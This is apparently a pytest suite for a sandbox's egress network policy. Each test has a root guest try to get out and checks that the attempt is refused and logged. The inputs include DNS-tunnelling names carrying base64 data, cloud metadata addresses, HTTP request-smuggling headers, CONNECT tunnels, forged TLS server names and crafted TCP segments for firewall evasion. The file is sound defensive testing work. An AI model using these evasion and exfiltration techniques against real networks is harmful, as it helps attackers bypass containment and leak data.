"""Attempts to get out past a policy: each is refused, and told. The guest here is root, and sends what it wants."""

from __future__ import annotations

import asyncio
import errno
import socket
import struct
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import asynccontextmanager, contextmanager, suppress
from pathlib import Path

import dns.edns
import dns.message
import dns.name
import dns.rcode
import pytest

from pykata.net.netns import socket_in
from tests import frames
from tests.frames import ACK, FIN, PSH, SYN, TCP, UDP, URG, ip4
from tests.lies import SPOOFED, frame
from tests.netlab import (
    ETH_P_ALL,
    GATEWAY,
    GATEWAY6,
    GOOD,
    GOOD6,
    GUEST,
    METADATA,
    OTHER,
    THIRD,
    Lab,
    client_hello,
    lab,
)  # fmt: skip

POLICY = ["good.example", "alias.example:443", "*.wild.example", "rebound.example", "loop.example", "meta.example",
          "mixed.example", "good.example:8080"]
GET = b"GET / HTTP/1.1\r\nHost: %b\r\n\r\n"


@pytest.fixture
async def world() -> AsyncIterator[Lab]:
    async with lab(POLICY) as found:
        yield found


async def reached_nothing(world: Lab) -> None:
    """Nothing came to anybody, and what is allowed works still: what was sent before that has been decided."""
    world.world.received.clear()
    await allowed(world)
    assert set(world.world.received) == {(GOOD, 443)}


async def allowed(world: Lab) -> None:
    assert await world.addresses("good.example") == [GOOD]
    assert await world.talk(GOOD, 443, client_hello()) == b"reply"


@contextmanager
def refused(*numbers: int) -> Iterator[None]:
    """The guest is told at once."""
    with pytest.raises(OSError, check=lambda exc: exc.errno in (numbers or (errno.ECONNREFUSED,))):
        yield


# --- addresses, ports, protocols ---


async def test_an_address_that_no_name_led_to(world: Lab) -> None:
    with refused():
        await world.connect(OTHER, 443)
    event = await world.event(action="denied", address=OTHER, port=443, protocol="tcp")
    assert event.reason == "address"
    await reached_nothing(world)


async def test_the_right_address_before_its_name_was_asked_for(world: Lab) -> None:
    with refused():
        await world.connect(GOOD, 443)
    assert (await world.event(action="denied", address=GOOD)).reason == "address"
    await reached_nothing(world)


async def test_another_port_of_an_allowed_name(world: Lab) -> None:
    await allowed(world)
    with refused():
        await world.connect(GOOD, 22)
    assert (await world.event(action="denied", address=GOOD, port=22)).reason == "port"
    await reached_nothing(world)


async def test_ipv6_addresses_that_no_name_led_to(world: Lab) -> None:
    for address in (GOOD6, GATEWAY6, "::ffff:20.0.0.2", "64:ff9b::1400:2"):
        with refused(errno.ECONNREFUSED, errno.EACCES, errno.ENETUNREACH):
            await world.connect(address, 443)
    assert (await world.event(action="denied", address=GOOD6)).reason == "address"
    await reached_nothing(world)


@pytest.mark.parametrize("port", [443, 123, 9000])
async def test_udp_and_quic(world: Lab, port: int) -> None:
    await allowed(world)
    with refused(errno.EHOSTUNREACH):
        await world.datagram(GOOD, port, b"\xc0\x00\x00\x00\x01" + bytes(1200))
    assert (await world.event(action="denied", protocol="udp", address=GOOD, port=port)).reason == "port"
    await reached_nothing(world)


async def test_ping(world: Lab) -> None:
    await allowed(world)
    for address in (GOOD, OTHER):
        world.send_frame(frame(ip4(GUEST, address, frames.ICMP, frames.icmp(8, b"data in a ping"))))
        assert (await world.event(action="denied", protocol="icmp", address=address)).reason in ("address", "port")
    await reached_nothing(world)


async def test_an_answer_to_a_ping_that_nobody_sent(world: Lab) -> None:
    world.send_frame(frame(ip4(GUEST, OTHER, frames.ICMP, frames.icmp(0, b"data in an answer"))))
    assert (await world.event(action="denied", protocol="icmp", address=OTHER)).reason == "protocol"
    await reached_nothing(world)


@pytest.mark.parametrize(("number", "name"), [(47, "gre"), (132, "sctp"), (41, "6in4"), (253, "ip-253"), (2, "igmp")])
async def test_other_protocols(world: Lab, number: int, name: str) -> None:
    world.send_frame(frame(ip4(GUEST, OTHER, number, b"\0" * 40)))
    assert (await world.event(action="denied", protocol=name)).reason == "protocol"
    await reached_nothing(world)


@pytest.mark.parametrize("address", [METADATA, "100.100.100.200", "168.63.129.16"])
async def test_metadata_of_clouds(world: Lab, address: str) -> None:
    with refused():
        await world.connect(address, 80)
    assert (await world.event(action="denied", address=address)).reason == "protected"
    await reached_nothing(world)


async def test_the_gateway_and_its_services(world: Lab) -> None:
    for address in (GATEWAY, GATEWAY6):
        with refused(errno.ECONNREFUSED, errno.EACCES):
            await world.connect(address, 8080)
        assert (await world.event(action="denied", address=address)).reason == "address"
    await reached_nothing(world)


async def test_the_loopback_of_the_other_side(world: Lab) -> None:
    world.send_frame(frame(ip4(GUEST, "127.0.0.1", TCP, frames.tcp(GUEST, "127.0.0.1", 5000, 8080, flags=SYN))))
    assert (await world.event(action="denied", address="127.0.0.1")).reason == "protected"
    await reached_nothing(world)


# --- names ---


async def test_a_name_that_is_not_allowed(world: Lab) -> None:
    answer = await world.lookup("evil.example", edns=0)
    assert (answer.rcode(), answer.answer) == (dns.rcode.NXDOMAIN, [])
    assert "isn't among the names" in str(answer.options[0])
    event = await world.event(action="denied", protocol="dns", name="evil.example")
    assert event.reason == "name"
    assert world.resolver.asked == []
    await reached_nothing(world)


async def test_data_in_names(world: Lab) -> None:
    for name in ("c2VjcmV0.evil.example", "c2VjcmV0.good.example", "good.example.evil.example", "xgood.example"):
        assert (await world.lookup(name, "TXT")).answer == []
        assert (await world.event(action="denied", protocol="dns", name=name.lower())).reason == "name"
    assert world.resolver.asked == []
    await reached_nothing(world)


async def test_labels_with_dots_in_them(world: Lab) -> None:
    for labels in ((b"x.wild", b"example", b""), (b"good.example", b""), (b"a\0.wild", b"example", b"")):
        query = dns.message.make_query(dns.name.Name(labels), "A").to_wire()
        answer = dns.message.from_wire(await world.datagram("169.254.53.53", 53, query))
        assert answer.rcode() == dns.rcode.NXDOMAIN
    assert world.resolver.asked == []
    assert (await world.event(action="denied", protocol="dns")).reason == "name"


async def test_data_in_the_case_of_a_name_and_in_options(world: Lab) -> None:
    query = dns.message.make_query("gOOd.exAMple", "A", use_edns=0)
    query.use_edns(0, options=[dns.edns.GenericOption(dns.edns.OptionType.make(65001), b"data")])
    await world.datagram("169.254.53.53", 53, query.to_wire())
    assert world.resolver.asked == [("good.example", "A")]


async def test_another_resolver(world: Lab) -> None:
    query = dns.message.make_query("c2VjcmV0.evil.example", "TXT").to_wire()
    with refused(errno.EHOSTUNREACH):
        await world.datagram(OTHER, 53, query)
    assert (await world.event(action="denied", protocol="udp", address=OTHER, port=53)).reason == "resolver"
    with refused():
        await world.connect(OTHER, 53)
    await reached_nothing(world)


async def test_the_own_resolver_by_tcp_and_on_other_ports(world: Lab) -> None:
    for port in (53, 853, 443):
        with refused():
            await world.connect("169.254.53.53", port)
    with refused(errno.EHOSTUNREACH):
        await world.datagram("169.254.53.53", 5353, b"?")
    await world.event(action="denied", address="169.254.53.53", port=53, protocol="tcp")
    await reached_nothing(world)


@pytest.mark.parametrize("payload", [b"", b"\0" * 11, b"\xff" * 40, b"\0" * 600])
async def test_what_is_no_question(world: Lab, payload: bytes) -> None:
    source = frames.udp(GUEST, "169.254.53.53", 5000, 53, payload)
    world.send_frame(frame(ip4(GUEST, "169.254.53.53", UDP, source)))
    assert (await world.event(action="denied", port=53)).reason == "dns"
    await reached_nothing(world)


@pytest.mark.parametrize("name", ["rebound.example", "loop.example", "meta.example"])
async def test_a_name_that_leads_inside(world: Lab, name: str) -> None:
    assert await world.addresses(name) == []
    assert (await world.event(action="denied", name=name)).reason == "rebinding"
    await reached_nothing(world)


async def test_a_name_of_which_one_address_leads_inside(world: Lab) -> None:
    assert await world.addresses("mixed.example") == [THIRD]
    assert (await world.event(action="denied", name="mixed.example")).reason == "rebinding"
    with refused():
        await world.connect("192.168.1.1", 443)


async def test_an_alias_is_what_was_allowed_and_its_target_is_not(world: Lab) -> None:
    assert await world.addresses("alias.example") == [THIRD]
    assert await world.talk(THIRD, 443, client_hello("alias.example")) == b"reply"
    with pytest.raises(ConnectionResetError):
        await world.talk(THIRD, 443, client_hello("target.example"))
    assert (await world.event(action="denied", address=THIRD)).reason == "mismatch"


# --- what a connection shows ---


async def cut(world: Lab, port: int, *pieces: bytes, reason: str, address: str = GOOD) -> None:
    """Connect where it is allowed, and be cut off for what is sent: the server has never got the last piece."""
    await world.addresses("good.example")
    with await world.connect(address, port) as found:
        found.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        loop = asyncio.get_running_loop()
        for piece in pieces[:-1]:
            await loop.sock_sendall(found, piece)
            assert await world.receive(found) == b"reply"
        await loop.sock_sendall(found, pieces[-1])
        with pytest.raises(ConnectionResetError):
            await world.receive(found)
    assert (await world.event(action="denied", address=address, port=port)).reason == reason
    assert pieces[-1] not in b"".join(world.world.received.get((address, port), []))


async def test_another_name_in_tls(world: Lab) -> None:
    await cut(world, 443, client_hello("evil.example"), reason="mismatch")
    await reached_nothing(world)


async def test_an_allowed_name_that_leads_elsewhere(world: Lab) -> None:
    await world.addresses("a.wild.example")
    await cut(world, 443, client_hello("a.wild.example"), reason="mismatch")


async def test_tls_without_a_name(world: Lab) -> None:
    await cut(world, 443, client_hello(None), reason="sni")


async def test_tls_in_small_pieces(world: Lab) -> None:
    hello = client_hello("evil.example")
    at = hello.index(b"evil")
    await cut(world, 443, hello[:3], hello[3 : at + 2], hello[at + 2 :], reason="mismatch")


async def test_tls_with_a_name_in_two_records(world: Lab) -> None:
    body = client_hello("evil.example")[5:]
    at = body.index(b"evil") + 2
    records = b"".join(b"\x16\x03\x01" + struct.pack("!H", len(each)) + each for each in (body[:at], body[at:]))
    await cut(world, 443, records, reason="mismatch")


async def test_http_where_tls_should_be(world: Lab) -> None:
    await cut(world, 443, GET % b"good.example", reason="tls")


async def test_tls_where_http_should_be(world: Lab) -> None:
    await cut(world, 80, client_hello(), reason="http")


async def test_ssh_where_http_should_be(world: Lab) -> None:
    await cut(world, 80, b"SSH-2.0-OpenSSH_9.2\r\n", reason="http")


async def test_another_host_in_http(world: Lab) -> None:
    await cut(world, 80, GET % b"evil.example", reason="mismatch")


async def test_http_to_an_address(world: Lab) -> None:
    await cut(world, 80, GET % GOOD.encode(), reason="mismatch")


async def test_http_without_a_host(world: Lab) -> None:
    await cut(world, 80, b"GET / HTTP/1.0\r\n\r\n", reason="host")


async def test_two_hosts(world: Lab) -> None:
    await cut(world, 80, b"GET / HTTP/1.1\r\nHost: good.example\r\nHost: evil.example\r\n\r\n", reason="host")


async def test_another_host_in_the_line_of_a_request(world: Lab) -> None:
    await cut(world, 80, b"GET http://evil.example/ HTTP/1.1\r\nHost: good.example\r\n\r\n", reason="host")


async def test_a_tunnel(world: Lab) -> None:
    await cut(world, 80, b"CONNECT evil.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\n", reason="connect")


async def test_another_host_on_another_port(world: Lab) -> None:
    await cut(world, 8080, GET % b"evil.example", reason="mismatch")
    await cut(world, 8080, client_hello("evil.example"), reason="mismatch")


async def test_a_second_request_for_another_host(world: Lab) -> None:
    good, evil = GET % b"good.example", GET % b"evil.example"
    await cut(world, 80, good, evil, reason="mismatch")


async def test_a_second_request_behind_the_first_one(world: Lab) -> None:
    await cut(world, 80, GET % b"good.example" + GET % b"evil.example", reason="mismatch")


@pytest.mark.parametrize("fields", [
    b"Content-Length: 4\r\nTransfer-Encoding: chunked", b"Content-Length: 4\r\nContent-Length: 5",
    b"Transfer-Encoding : chunked", b"Transfer-Encoding: xchunked", b" Host: evil.example", b"Upgrade: h2c",
    b"Content-Length: +4", b"X: \nHost: evil.example",
])  # fmt: skip
async def test_requests_that_can_be_read_in_two_ways(world: Lab, fields: bytes) -> None:
    request = b"POST / HTTP/1.1\r\nHost: good.example\r\n" + fields + b"\r\n\r\n" + GET % b"evil.example"
    await cut(world, 80, request, reason="upgrade" if b"h2c" in fields else "http")


async def test_a_redirect_elsewhere(world: Lab) -> None:
    world.world.reply = b"HTTP/1.1 302 Found\r\nLocation: http://evil.example/\r\nContent-Length: 0\r\n\r\n"
    await world.addresses("good.example")
    assert b"302" in await world.talk(GOOD, 80, GET % b"good.example")
    assert await world.addresses("evil.example") == []      # what a client does next
    await world.event(action="denied", name="evil.example")
    with refused():
        await world.connect(OTHER, 80)
    assert set(world.world.received) == {(GOOD, 80)}


# --- packets that no kernel sends ---


async def raw_connection(world: Lab) -> tuple[int, int]:
    """A connection of which the guest makes each segment; its next sequence numbers, ours and the server's."""
    await world.addresses("good.example")
    with world.raw(everything=True) as seen:
        seen.setblocking(False)
        segment = frames.tcp(GUEST, GOOD, 7777, 443, flags=SYN, seq=1000)
        # The guest's own kernel must not answer what it knows nothing of.
        seen.send(frame(ip4(GUEST, GOOD, TCP, segment)))
        async with asyncio.timeout(20):
            while True:
                found = await asyncio.get_running_loop().sock_recv(seen, 65536)
                if found[12:14] == b"\x08\0" and found[23] == TCP and found[36:38] == struct.pack("!H", 7777):
                    return 1001, int.from_bytes(found[38:42]) + 1


async def send(
    world: Lab, payload: bytes, *, seq: int, ack: int, flags: int = PSH | ACK, ttl: int = 64, urgent: int = 0
) -> None:
    segment = frames.tcp(GUEST, GOOD, 7777, 443, flags=flags, seq=seq, ack=ack, payload=payload, urgent=urgent)
    world.send_frame(frame(ip4(GUEST, GOOD, TCP, segment, ttl=ttl)))


@asynccontextmanager
async def eavesdropping(world: Lab) -> AsyncIterator[Callable[[], list[bytes]]]:
    """All frames that come to where everybody else is."""
    with socket_in(world.world.netns, socket.AF_PACKET, socket.SOCK_RAW) as found:
        found.setblocking(False)
        found.bind(("world", ETH_P_ALL))

        def heard() -> list[bytes]:
            frames = []
            with suppress(BlockingIOError):
                while True:
                    frames.append(found.recv(65536))
            return frames

        yield heard


@asynccontextmanager
async def deaf_guest(world: Lab) -> AsyncIterator[None]:
    """The guest's kernel doesn't take part in TCP: it would reset connections that it didn't make."""
    from pykata.host import find_tool, run_tool

    rules = "table ip deaf { chain out { type filter hook output priority 0; tcp flags rst drop; }; }"
    nsenter: list[str | Path] = [find_tool("nsenter", package="util-linux"), f"--net={world.guest.proc_path}"]
    await run_tool([*nsenter, find_tool("nft", package="nftables"), rules])
    yield


async def test_other_bytes_under_the_same_numbers(world: Lab) -> None:
    # The server won't take the first one, as its acknowledgement is of what was never sent.
    async with deaf_guest(world):
        seq, ack = await raw_connection(world)
        await send(world, client_hello(), seq=seq, ack=ack + 1_000_000)
        await send(world, client_hello("evil.example"), seq=seq, ack=ack)
        assert (await world.event(action="denied", address=GOOD, port=443)).reason == "rewritten"
    assert b"evil" not in b"".join(world.world.received.get((GOOD, 443), []))


async def test_bytes_that_die_on_their_way(world: Lab) -> None:
    async with deaf_guest(world):
        seq, ack = await raw_connection(world)
        await send(world, client_hello(), seq=seq, ack=ack, ttl=1)
        await send(world, client_hello("evil.example"), seq=seq, ack=ack)
        reasons = {event.reason for event in await world.events()} | {
            (await world.event(action="denied", address=GOOD, port=443)).reason
        }
    assert "rewritten" in reasons
    assert b"evil" not in b"".join(world.world.received.get((GOOD, 443), []))


async def test_a_wrong_checksum(world: Lab) -> None:
    async with deaf_guest(world):
        seq, ack = await raw_connection(world)
        right = frames.tcp(GUEST, GOOD, 7777, 443, flags=PSH | ACK, seq=seq, ack=ack, payload=client_hello())
        segment = bytearray(right)
        segment[16] ^= 1
        world.send_frame(frame(ip4(GUEST, GOOD, TCP, bytes(segment))))
        assert (await world.event(action="denied", address=GOOD)).reason == "malformed"


async def test_urgent_data(world: Lab) -> None:
    async with deaf_guest(world):
        seq, ack = await raw_connection(world)
        await send(world, client_hello(), seq=seq, ack=ack, flags=PSH | ACK | URG, urgent=3)
        assert (await world.event(action="denied", address=GOOD)).reason == "urgent"


async def test_the_ports_of_an_old_connection(world: Lab) -> None:
    await world.addresses("good.example")
    assert await world.talk(GOOD, 443, client_hello(), sport=6000) == b"reply"
    with pytest.raises(ConnectionResetError):
        await world.talk(GOOD, 443, client_hello("evil.example"), sport=6000)
    assert (await world.event(action="denied", port=443)).reason == "mismatch"


@pytest.mark.parametrize("flags", [ACK, FIN, FIN | ACK, 0, PSH | ACK | FIN, SYN | ACK])
async def test_tcp_without_a_connection(world: Lab, flags: int) -> None:
    await world.addresses("good.example")
    segment = frames.tcp(GUEST, GOOD, 5001, 443, flags=flags, seq=1, ack=1, payload=b"data" if flags == ACK else b"")
    world.send_frame(frame(ip4(GUEST, GOOD, TCP, segment)))
    assert (await world.event(action="denied", address=GOOD)).reason == "state"
    await reached_nothing(world)


async def test_data_in_a_syn(world: Lab) -> None:
    await world.addresses("good.example")
    segment = frames.tcp(GUEST, GOOD, 5002, 443, flags=SYN, seq=1, payload=b"data")
    world.send_frame(frame(ip4(GUEST, GOOD, TCP, segment)))
    assert (await world.event(action="denied", address=GOOD)).reason == "early"
    await reached_nothing(world)


@pytest.mark.parametrize("what", SPOOFED)
async def test_frames_that_lie(world: Lab, what: str) -> None:
    sent, reason = SPOOFED[what]
    world.send_frame(sent)
    assert (await world.event(action="denied", reason=reason)).reason == reason
    await reached_nothing(world)


async def test_frames_that_lie_to_a_bridge() -> None:
    async with lab(POLICY, bridge=True) as world, eavesdropping(world) as heard:
        for sent, reason in SPOOFED.values():
            world.send_frame(sent)
            await world.event(action="denied", reason=reason)
        await reached_nothing(world)
        assert not [each for each in heard() if each in {sent for sent, _ in SPOOFED.values()}]
